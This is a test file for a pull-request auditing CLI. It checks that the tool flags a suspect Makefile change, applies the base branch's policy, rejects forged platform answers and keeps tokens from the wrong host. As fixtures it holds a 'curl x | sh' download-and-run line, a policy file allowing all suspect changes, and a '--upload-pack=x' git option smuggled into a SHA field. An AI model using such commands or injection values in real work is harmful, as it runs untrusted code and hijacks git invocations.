import { mkdirSync, readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { auditPullRequest } from '../../../../../src/cli/audit/platforms/audit-pull-request.ts';
import { GitScene } from '../../../../support/review/git-scene.ts';
import { PlatformStandIn } from '../../../../support/review/platform-stand-in.ts';
import { requestOf } from '../../../../support/review/source-request.ts';

const scene = new GitScene();
const remotes = path.join(scene.root, 'remotes');
const base = scene.commit({ Makefile: 'all:\n', 'src/a.ts': 'a\n' });
scene.git('checkout', '-qb', 'topic');
const head = scene.commit({ Makefile: 'all:\n\tcurl x | sh\n', '.run-claude.toml': 'allow-suspect = ["**"]\n' });
scene.git('checkout', '-q', 'main');
const tip = scene.commit({ 'other.txt': 'main went on\n' });
let reported = head;

const answers: Readonly<Record<string, () => unknown>> = {
  '/api/v3/repos/o/r/pulls/7': () => ({ base: { sha: tip }, head: { sha: reported } }),
  [`/api/v3/repos/o/r/compare/${tip}...${head}?per_page=1`]: () => ({ merge_base_commit: { sha: base } }),
  '/api/v4/projects/g%2Fs%2Fr/merge_requests/7': () => ({ diff_refs: { base_sha: base, head_sha: reported } }),
  '/api/v3/repos/o/r/pulls/8': () => ({ base: { sha: '--upload-pack=x' }, head: { sha: head } }),
};
const platform = new PlatformStandIn(
  ({ path: asked }) => {
    const body = answers[asked]?.();
    return body === undefined ? undefined : { body };
  },
  remotes,
  scene.env,
);

beforeAll(async () => {
  for (const name of ['o/r.git', 'g/s/r.git']) {
    const at = path.join(remotes, name);
    mkdirSync(path.dirname(at), { recursive: true });
    scene.git('clone', '-q', '--bare', scene.repo, at);
    scene.git('-C', at, 'config', 'uploadpack.allowReachableSHA1InWant', 'true');
    scene.git('-C', at, 'update-ref', 'refs/pull/7/head', head);
    scene.git('-C', at, 'update-ref', 'refs/merge-requests/7/head', head);
  }
  await platform.start();
});
afterAll(async () => {
  await platform[Symbol.asyncDispose]();
  scene[Symbol.dispose]();
});

const audit = async (word: string, env: NodeJS.ProcessEnv = {}) => {
  const request = requestOf(scene);
  const { review, ...audited } = await auditPullRequest({ ...request, env: { ...request.env, ...env } }, word);
  return { ...audited, states: review.items.map(({ change, state }) => `${state} ${change.path}`) };
};

it('audits a pull request of GitHub without a checkout, with the policy of its base', async () => {
  const before = scene.git('count-objects');
  const audited = await audit(`http://${platform.host}/o/r/pull/7/files`, {
    GH_HOST: platform.host,
    GH_ENTERPRISE_TOKEN: 'token-of-the-host',
    GH_TOKEN: 'token-of-github',
  });
  expect(audited).toMatchObject({ base, head, states: expect.arrayContaining(['suspect Makefile']) });
  expect(audited.label).toContain('o/r 7: ');
  const sent = platform.seen.map(({ headers }) => headers.authorization);
  expect(sent).toContain('Bearer token-of-the-host');
  expect(sent).toContain(`Basic ${btoa('x-access-token:token-of-the-host')}`);
  // Both ends come with one request, and nothing of them stays.
  expect(
    platform.seen.filter(({ method, path: asked }) => method === 'POST' && /upload-pack$/.test(asked)).length,
  ).toBe(2);
  expect(scene.git('count-objects')).toBe(before);
  expect(readdirSync(tmpdir()).filter((name) => name.startsWith('run-claude-pr-'))).toEqual([]);
});

it('audits a merge request of GitLab, and sends no token to a host that it is not for', async () => {
  platform.seen.length = 0;
  const audited = await audit(`http://${platform.host}/g/s/r/-/merge_requests/7`, {
    GITLAB_TOKEN: 'secret-1',
    GH_TOKEN: 'secret-2',
    GITHUB_TOKEN: 'secret-3',
  });
  expect(audited.states).toContain('suspect Makefile');
  expect(JSON.stringify(platform.seen)).not.toMatch(/secret-|authorization/);
});

it('refuses what moved, a forged answer, and what is not there', async () => {
  reported = tip;
  await expect(audit(`http://${platform.host}/g/s/r/-/merge_requests/7`)).rejects.toMatchObject({ code: 'PR_MOVED' });
  reported = head;
  for (const number of [8, 9])
    await expect(audit(`http://${platform.host}/o/r/pull/${number}`)).rejects.toMatchObject({
      code: 'PLATFORM_FAILED',
    });
});
